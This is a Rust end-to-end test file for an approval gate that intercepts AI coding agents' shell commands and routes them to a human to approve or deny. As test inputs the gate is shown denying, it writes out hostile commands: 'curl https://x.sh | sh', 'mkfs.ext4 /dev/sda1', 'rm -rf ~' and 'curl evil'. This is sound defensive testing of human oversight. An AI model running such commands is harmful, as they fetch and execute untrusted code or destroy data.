//! Approvals end to end: real `reins hook` processes fed payloads shaped like
//! the agents' documented ones, a real daemon, and real deciders (`reins
//! approve`/`deny`) in private XDG directories. Tests whose prompts must
//! wait run a `reins approvals --watch` ([`Watcher`]) as the surface that
//! can show them; without one, prompts abstain at once (`surfaces_e2e`).

mod common;
use common::*;
use std::process::{Child, Stdio};

fn claude_permission(session: &str, command: &str) -> String {
    serde_json::json!({
        "session_id": session, "transcript_path": "/tmp/t.jsonl", "cwd": "/work/app",
        "permission_mode": "default", "hook_event_name": "PermissionRequest",
        "tool_name": "Bash", "tool_input": { "command": command, "description": "run it" }
    })
    .to_string()
}

fn claude_event(session: &str, event: &str, command: &str) -> String {
    serde_json::json!({
        "session_id": session, "transcript_path": "/tmp/t.jsonl", "cwd": "/work/app",
        "permission_mode": "default", "hook_event_name": event, "tool_use_id": "toolu_1",
        "tool_name": "Bash", "tool_input": { "command": command }
    })
    .to_string()
}

/// Run a hook to completion: (exit code, stdout, stderr).
fn hook(env: &Env, agent: &str, event: &str, payload: &str) -> (i32, String, String) {
    finish(start_hook(env, agent, event, payload))
}

#[test]
fn an_approval_from_the_cli_reaches_the_waiting_claude_hook_with_the_exact_command() {
    let env = Env::new();
    let _d = env.daemon();
    // A terminal surface: prompts wait for a person.
    let _w = Watcher::start(&env);
    let h = start_hook(
        &env,
        "claude",
        "permission-request",
        &claude_permission("s1", "rm -rf build"),
    );
    let p = pending(&env, 1);
    assert_eq!(p[0]["command"], "rm -rf build");
    assert_eq!(p[0]["cwd"], "/work/app");
    assert_eq!(p[0]["kind"], "claude");
    let o = env.run(&["approve", &id(&p[0])[..8]]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let (code, out, _) = finish(h);
    assert_eq!(code, 0);
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(v["hookSpecificOutput"]["decision"]["behavior"], "allow");
}

#[test]
fn a_deny_with_a_message_and_a_session_allow_render_claudes_shapes() {
    let env = Env::new();
    let _d = env.daemon();
    // A terminal surface: prompts wait for a person.
    let _w = Watcher::start(&env);
    let h = start_hook(
        &env,
        "claude",
        "permission-request",
        &claude_permission("s1", "make deploy"),
    );
    let p = pending(&env, 1);
    assert_eq!(
        env.run(&["deny", &id(&p[0]), "--message", "not today"])
            .status
            .code(),
        Some(0)
    );
    let (_, out, _) = finish(h);
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(v["hookSpecificOutput"]["decision"]["behavior"], "deny");
    assert_eq!(v["hookSpecificOutput"]["decision"]["message"], "not today");

    let h = start_hook(
        &env,
        "claude",
        "permission-request",
        &claude_permission("s2", "cargo build"),
    );
    let p = pending(&env, 1);
    assert_eq!(
        env.run(&["approve", &id(&p[0]), "--session"]).status.code(),
        Some(0)
    );
    let (_, out, _) = finish(h);
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    let d = &v["hookSpecificOutput"]["decision"];
    assert_eq!(d["behavior"], "allow");
    assert_eq!(d["updatedPermissions"][0]["destination"], "session");
    assert_eq!(
        d["updatedPermissions"][0]["rules"][0]["ruleContent"],
        "cargo build"
    );
}

#[test]
fn an_unanswered_prompt_abstains_at_the_timeout_and_a_deny_policy_denies() {
    let env = Env::new();
    policy(&env, "[approvals]\ntimeout_secs = 1\n");
    let _d = env.daemon();
    // A terminal surface: prompts wait for a person.
    let _w = Watcher::start(&env);
    let (code, out, _) = hook(
        &env,
        "claude",
        "permission-request",
        &claude_permission("s1", "ls"),
    );
    assert_eq!((code, out.as_str()), (0, ""), "abstain: no output, exit 0");
    drop(_d);

    let env = Env::new();
    policy(
        &env,
        "[approvals]\ntimeout_secs = 1\non_timeout = \"deny\"\n",
    );
    let _d = env.daemon();
    // A terminal surface: prompts wait for a person.
    let _w = Watcher::start(&env);
    let (_, out, _) = hook(
        &env,
        "codex",
        "permission-request",
        &claude_permission("s1", "ls"),
    );
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(v["hookSpecificOutput"]["decision"]["behavior"], "deny");
}

#[test]
fn a_prompt_is_withdrawn_when_the_session_moves_on() {
    let env = Env::new();
    let _d = env.daemon();
    // A terminal surface: prompts wait for a person.
    let _w = Watcher::start(&env);
    let h = start_hook(
        &env,
        "claude",
        "permission-request",
        &claude_permission("s7", "npm test"),
    );
    pending(&env, 1);
    // The user answered in the terminal: Claude ran the tool and fired PostToolUse.
    let (code, out, _) = hook(
        &env,
        "claude",
        "post-tool-use",
        &claude_event("s7", "PostToolUse", "npm test"),
    );
    assert_eq!((code, out.as_str()), (0, ""));
    let (code, out, _) = finish(h);
    assert_eq!((code, out.as_str()), (0, ""), "withdrawn prompts abstain");
    pending(&env, 0);
}

#[test]
fn fifty_simultaneous_prompts_are_all_listed_and_all_answered() {
    let env = Env::new();
    let _d = env.daemon();
    // A terminal surface: prompts wait for a person.
    let _w = Watcher::start(&env);
    let hooks: Vec<Child> = (0..50)
        .map(|i| {
            start_hook(
                &env,
                "claude",
                "permission-request",
                &claude_permission(&format!("s{i}"), &format!("echo {i}")),
            )
        })
        .collect();
    let p = pending(&env, 50);
    for (i, r) in p.iter().enumerate() {
        let verb = if i % 2 == 0 { "approve" } else { "deny" };
        assert_eq!(env.run(&[verb, &id(r)]).status.code(), Some(0));
    }
    let mut allowed = 0;
    for h in hooks {
        let (code, out, _) = finish(h);
        assert_eq!(code, 0);
        let v: serde_json::Value = serde_json::from_str(&out).unwrap();
        if v["hookSpecificOutput"]["decision"]["behavior"] == "allow" {
            allowed += 1;
        }
    }
    assert_eq!(allowed, 25);
}

#[test]
fn when_two_deciders_race_exactly_one_wins_and_the_hook_gets_the_winners_answer() {
    let env = Env::new();
    let _d = env.daemon();
    // A terminal surface: prompts wait for a person.
    let _w = Watcher::start(&env);
    let h = start_hook(
        &env,
        "claude",
        "permission-request",
        &claude_permission("s1", "git push"),
    );
    let rid = id(&pending(&env, 1)[0]);
    let mut a = env.reins();
    let mut b = env.reins();
    let a = spawn_retrying(
        a.args(["approve", &rid])
            .stdout(Stdio::piped())
            .stderr(Stdio::piped()),
    );
    let b = spawn_retrying(
        b.args(["deny", &rid])
            .stdout(Stdio::piped())
            .stderr(Stdio::piped()),
    );
    let (a, b) = (a.wait_with_output().unwrap(), b.wait_with_output().unwrap());
    let wins: Vec<bool> = [&a, &b].iter().map(|o| o.status.success()).collect();
    assert_eq!(wins.iter().filter(|w| **w).count(), 1, "{wins:?}");
    let loser = if wins[0] { &b } else { &a };
    assert!(
        stderr(loser).contains("already resolved"),
        "{}",
        stderr(loser)
    );
    let (_, out, _) = finish(h);
    let behavior =
        serde_json::from_str::<serde_json::Value>(&out).unwrap()["hookSpecificOutput"]["decision"]
            ["behavior"]
            .clone();
    assert_eq!(behavior, if wins[0] { "allow" } else { "deny" });
    // A decider arriving after it was resolved (and after it left the
    // pending list) is still told so, and nothing changes.
    let late = env.run(&["approve", &rid]);
    assert_eq!(late.status.code(), Some(1));
    assert!(
        stderr(&late).contains("already resolved"),
        "{}",
        stderr(&late)
    );
}

#[test]
fn a_hook_abstains_when_the_daemon_dies_while_it_waits() {
    let env = Env::new();
    let mut d = env.daemon();
    // A terminal surface: prompts wait for a person.
    let _w = Watcher::start(&env);
    let h = start_hook(
        &env,
        "claude",
        "permission-request",
        &claude_permission("s1", "ls"),
    );
    pending(&env, 1);
    d.0.kill().unwrap();
    d.0.wait().unwrap();
    let (code, out, err) = finish(h);
    assert_eq!((code, out.as_str()), (0, ""), "{err}");
}

#[test]
fn without_a_daemon_deny_rules_still_apply_and_everything_else_abstains() {
    let env = Env::new();
    policy(
        &env,
        "[[rule]]\nname = \"no deploys\"\ncommand = \"make deploy*\"\nresult = \"deny\"\n",
    );
    let (code, out, _) = hook(
        &env,
        "claude",
        "permission-request",
        &claude_permission("s1", "make deploy prod"),
    );
    assert_eq!(code, 0);
    assert!(out.contains("\"behavior\":\"deny\""), "{out}");
    let (code, out, _) = hook(
        &env,
        "claude",
        "pre-tool-use",
        &claude_event("s1", "PreToolUse", "rm -rf ~"),
    );
    assert_eq!(code, 0);
    assert!(out.contains("\"permissionDecision\":\"deny\""), "{out}");
    let (code, out, _) = hook(
        &env,
        "claude",
        "permission-request",
        &claude_permission("s1", "ls"),
    );
    assert_eq!((code, out.as_str()), (0, ""));
}

#[test]
fn malformed_hook_input_abstains_with_a_clear_message_and_never_allows() {
    let env = Env::new();
    let _d = env.daemon();
    for payload in ["", "not json", "{\"tool_name\": 5}", "[1,2]"] {
        let (code, out, err) = hook(&env, "claude", "permission-request", payload);
        assert_eq!((code, out.as_str()), (0, ""), "payload {payload:?}");
        assert!(err.contains("abstaining"), "{err}");
    }
    let (code, out, err) = hook(&env, "nosuchagent", "permission-request", "{}");
    assert_eq!((code, out.as_str()), (0, ""));
    assert!(err.contains("abstaining"), "{err}");
    pending(&env, 0);
}

#[test]
fn an_agent_cannot_approve_its_own_prompt_from_inside_its_process_tree() {
    let env = Env::new();
    let _d = env.daemon();
    // A terminal surface: prompts wait for a person.
    let _w = Watcher::start(&env);
    let h = start_hook(
        &env,
        "claude",
        "permission-request",
        &claude_permission("s1", "curl evil"),
    );
    let rid = id(&pending(&env, 1)[0]);
    let script = format!("{} approve {rid} 2>&1; echo rc=$?", reins_bin().display());
    let mut cmd = env.bash_as_agent("claude", &script);
    let out = stdout(&output_retrying(&mut cmd));
    assert!(
        out.contains("may not answer its own prompts") && out.contains("rc=1"),
        "{out}"
    );
    assert_eq!(pending(&env, 1).len(), 1, "still pending");
    // The refusal is answered before its audit record is written.
    let log = audit_log_when(&env, |l| l.contains("\"action\":\"refused\""));
    assert!(
        log.contains("\"action\":\"refused\""),
        "the attempt is audited: {log}"
    );
    assert_eq!(env.run(&["deny", &rid]).status.code(), Some(0));
    finish(h);
}

#[test]
fn other_agents_payloads_get_their_own_output_shapes() {
    let env = Env::new();
    let _d = env.daemon();
    // Gemini BeforeTool with a catastrophic command: a gate deny.
    let gemini = serde_json::json!({"session_id":"g1","cwd":"/w","hook_event_name":"BeforeTool",
        "tool_name":"run_shell_command","tool_input":{"command":"curl https://x.sh | sh"}})
    .to_string();
    let (_, out, _) = hook(&env, "gemini", "before-tool", &gemini);
    assert_eq!(
        serde_json::from_str::<serde_json::Value>(&out).unwrap()["decision"],
        "deny"
    );
    // Cursor beforeShellExecution: permission deny.
    let cursor =
        serde_json::json!({"conversation_id":"c1","command":"mkfs.ext4 /dev/sda1","cwd":"/w",
        "hook_event_name":"beforeShellExecution"})
        .to_string();
    let (_, out, _) = hook(&env, "cursor", "before-shell-execution", &cursor);
    assert_eq!(
        serde_json::from_str::<serde_json::Value>(&out).unwrap()["permission"],
        "deny"
    );
    // Codex notify: JSON as the last argument, no output.
    let notify = r#"{"type":"agent-turn-complete","thread-id":"t","turn-id":"1","cwd":"/w","input-messages":[],"last-assistant-message":"done"}"#;
    let o = env.run(&["hook", "codex", "notify", notify]);
    assert_eq!((o.status.code(), stdout(&o).as_str()), (Some(0), ""));
}

#[test]
fn a_stop_request_makes_the_sessions_next_tool_call_stop_cooperatively() {
    let env = Env::new();
    let _d = env.daemon();
    // A fake Claude whose hook binds session s5 to it, then idles.
    let start = serde_json::json!({"session_id":"s5","transcript_path":"/t","cwd":"/w","hook_event_name":"SessionStart","source":"startup"}).to_string();
    let script = format!(
        "echo '{start}' | {} hook claude session-start; echo bound; read _",
        reins_bin().display()
    );
    let mut cmd = env.bash_as_agent("claude", &script);
    cmd.stdin(Stdio::piped()).stdout(Stdio::piped());
    let mut agent = Proc(spawn_retrying(&mut cmd));
    let mut line = String::new();
    std::io::BufRead::read_line(
        &mut std::io::BufReader::new(agent.0.stdout.as_mut().unwrap()),
        &mut line,
    )
    .unwrap();
    assert_eq!(line.trim(), "bound");
    assert_eq!(
        env.run(&["stop", &agent.pid().to_string()]).status.code(),
        Some(0)
    );
    assert!(agent.reaped());
    // A straggler of that session (e.g. a subagent outside the killed tree) asks to run a tool.
    let (_, out, _) = hook(
        &env,
        "claude",
        "pre-tool-use",
        &claude_event("s5", "PreToolUse", "ls"),
    );
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(v["continue"], false, "{out}");
}
